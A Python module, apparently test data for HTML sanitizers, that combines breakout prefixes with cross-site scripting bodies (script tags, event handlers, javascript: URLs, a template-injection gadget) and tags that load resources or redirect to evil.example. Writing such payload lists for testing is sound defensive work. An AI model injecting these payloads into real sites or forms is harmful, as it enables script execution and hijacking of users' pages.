"""Texts that would run as script, or load something, on a page that takes text for markup."""

from __future__ import annotations

from itertools import islice, product

_CALL = "globalThis.pwned=1"
_OPENERS = (
    "",
    '"',
    "'",
    ">",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "]]>",
    "`",
    "\\",
    "\u2028",
    "&quot;>",
    "</style>",
    "</mark>",
    "{{",
    "${",
    "\u202e",
)
_BODIES = (
    f"<script>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'>",
    f"<details open ontoggle={_CALL}>",
    f"javascript:{_CALL}",
    f"<a href='javascript:{_CALL}'>x</a>",
    f"<style onload={_CALL}></style>",
    f" onfocus={_CALL} autofocus ",
    f"<math><mi xlink:href='javascript:{_CALL}'>",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<img src=http://evil.example/x.png>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content=0;url=http://evil.example/>",
)

PAYLOADS = tuple(islice((f"{opener}{body}".strip() for opener, body in product(_OPENERS, _BODIES)), 210))
"""210 of them: each body behind openers that would end what it stands in."""
